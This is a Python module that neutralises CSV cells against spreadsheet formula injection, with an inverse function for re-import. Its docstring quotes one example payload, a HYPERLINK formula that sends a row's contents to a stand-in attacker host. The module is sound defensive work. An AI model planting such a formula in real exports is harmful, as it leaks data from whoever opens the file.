"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

Excel, LibreOffice and Google Sheets run a cell that begins with = + - or @ as a formula,
and skip a leading tab or carriage return to find one: a "name" such as
=HYPERLINK("http://evil.example/?"&A1,"詳細") in an export an administrator opens becomes a
link that sends the row away. OWASP's advice, followed here: prefix such a cell with a
single quote, which the spreadsheet takes as "this is text" and does not show.
https://owasp.org/www-community/attacks/CSV_Injection

`restore` undoes `neutralise` exactly, so that a file we export imports back unchanged. A
value that already starts with quotes before one of those characters gets one more quote,
so that `restore(neutralise(v)) == v` for every string.
"""

_TRIGGERS = frozenset("=+-@\t\r")


def neutralise(value) -> str:
    """The cell as text that no spreadsheet runs. None is an empty cell."""
    text = "" if value is None else str(value)
    if text[:1] in _TRIGGERS or _looks_neutralised(text):
        return "'" + text
    return text


def restore(value: str) -> str:
    """The value `neutralise` was given (for the importer). Other cells are left as they are."""
    return value[1:] if _looks_neutralised(value) else value


def _looks_neutralised(text: str) -> bool:
    return text[:1] == "'" and text.lstrip("'")[:1] in _TRIGGERS
